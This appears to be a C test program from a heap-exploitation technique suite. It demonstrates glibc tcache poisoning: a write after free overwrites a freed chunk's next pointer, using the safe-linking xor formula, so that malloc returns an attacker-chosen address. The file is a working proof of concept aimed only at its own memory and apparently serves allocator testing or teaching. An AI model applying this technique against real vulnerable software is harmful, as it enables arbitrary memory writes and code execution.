/* tech-tcache-poisoning: overwrite the next pointer of a chunk in the
   tcache (a write after free), so that malloc hands out an address of the
   attacker's choice.  Since glibc 2.32 the pointer is safe-linked, so the
   forged value is the target xor (its own address >> 12), which an
   attacker who knows the heap address can compute.  Goal: malloc returns
   the target.  */

#include "tech-support.h"

static _Alignas (16) size_t target[8];

int
main (void)
{
  tech_begin ("tcache poisoning");
  size_t *a = tech_keep (malloc (0x80));
  size_t *b = tech_keep (malloc (0x80));
  free (a);
  free (b); /* the 0x90 tcache bin: b -> a */

  /* Write after free: b's next pointer.  */
  size_t *next = tst_opaque_ptr (b);
  tst_info ("pointing the tcache entry %p at the target %p", b, target);
  *(void **) next = tech_protect (next, target);

  void *first = tech_keep (malloc (0x80));
  void *second = tech_keep (malloc (0x80));
  tst_info ("malloc returned %p, then %p", first, second);
  tech_result (tech_same (second, target),
               "malloc returned the target %p (second allocation %p)",
               (void *) target, second);
}
